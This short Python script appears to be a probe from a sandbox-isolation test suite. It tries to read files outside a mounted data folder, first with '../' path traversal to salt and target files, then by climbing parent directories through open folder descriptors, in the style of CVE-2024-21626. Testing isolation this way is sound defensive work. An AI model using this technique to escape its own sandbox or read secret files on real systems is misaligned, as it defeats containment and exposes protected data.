"""Climbs out of the mounted data folder with `..`, by path and by folder descriptor.

Idea: path traversal (CWE-22), and CVE-2024-21626 for leaked folder descriptors.
"""

import os

import kit


def by_descriptor():
    folder = os.open(kit.DATA, os.O_RDONLY)
    for _ in range(40):
        folder = os.open("..", os.O_RDONLY, dir_fd=folder)
    return os.open(kit.known["secret_paths"][0].lstrip("/"), os.O_RDONLY, dir_fd=folder)


for name in ("../targets.json", "../../salt.hex", "../private/salt.hex", "../../../salt.hex"):
    kit.attempt(f"read {name}", lambda name=name: kit.dump(kit.DATA / name))
kit.attempt("up by descriptor", by_descriptor)
kit.honest()
